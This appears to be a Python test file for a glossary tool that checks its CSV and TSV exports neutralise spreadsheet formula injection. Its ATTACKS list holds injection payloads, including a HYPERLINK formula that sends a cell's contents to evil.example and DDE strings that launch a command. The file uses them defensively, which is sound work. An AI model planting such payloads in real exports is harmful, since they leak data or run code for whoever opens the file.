"""CSV formula injection: exported cells that start with = + - @ are neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings, strategies as st

from workbench.core.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
           "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_neutralised_through_a_real_csv_round_trip(cell, tmp_path):
    path = tmp_path / "terms.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow(csv_safe_row(["Ambassador", cell, "посол"]))
    with open(path, encoding="utf-8", newline="") as fh:
        row = next(csv.reader(fh))
    assert row[0] == "Ambassador" and row[2] == "посол"
    assert row[1] == "'" + cell  # shown as text by spreadsheets, the apostrophe is hidden
    assert not row[1].startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("cell", ["-5", "+7", "12.5", "-1,000", "Minister", "", "'quoted", "Сенат", "សន្តិភាព"])
def test_harmless_cells_are_unchanged(cell):
    assert csv_safe_cell(cell) == cell


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_exported_cell_can_start_a_formula(text):
    out = csv_safe_cell(text)
    assert out == text or out == "'" + text
    if out.startswith(FORMULA_TRIGGERS):  # only plain numbers may keep a sign
        assert out.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    buf = io.StringIO()
    csv.writer(buf).writerow([out])
    buf.seek(0)
    assert next(csv.reader(buf)) == [out]


TERMS = st.one_of(st.sampled_from(ATTACKS + ["-ization", "+7 495", "@UN", "=", "-5", "Minister"]),
                  st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=20))


@settings(max_examples=60, deadline=None)
@given(st.lists(TERMS, min_size=1, max_size=4), st.sampled_from(ATTACKS))
def test_glossary_csv_and_tsv_exports_neutralise_formulas_and_round_trip(terms, definition):
    import tempfile
    from pathlib import Path

    from workbench.core.errors import WorkbenchError
    from workbench.glossary import Glossary

    g = Glossary([], None)
    kept = []
    for i, term in enumerate(terms):
        cid = f"c{i}"
        try:
            g.add_concept(cid, definition=definition)
            g.add_term(cid, "en", "Ambassador" if i == 0 else f"Envoy {i}", "preferred")
            g.add_term(cid, "ru", term, "preferred")
        except WorkbenchError:  # the glossary may refuse a term (e.g. only spaces): fine, not exported
            continue
        kept.append((cid, g.get(cid).terms_in("ru")[0].text, g.get(cid).definition))
    for fmt in ("csv", "tsv"):
        out = g.dumps(fmt)
        delim = "," if fmt == "csv" else "\t"
        rows = list(csv.reader(io.StringIO(out), delimiter=delim)) if fmt == "csv" else \
            [line.split("\t") for line in out.splitlines() if not line.startswith("#")]
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_TRIGGERS):
                    assert cell.lstrip("+-").replace(",", "").replace(".", "").isdigit(), (fmt, cell)
    # the stored (CSV) form still round-trips exactly
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "g.csv"
        path.write_text(g.dumps("csv"), encoding="utf-8")
        back = Glossary.read(path)
        for cid, text, stored_definition in kept:
            assert back.get(cid).terms_in("ru")[0].text == text
            assert back.get(cid).definition == stored_definition
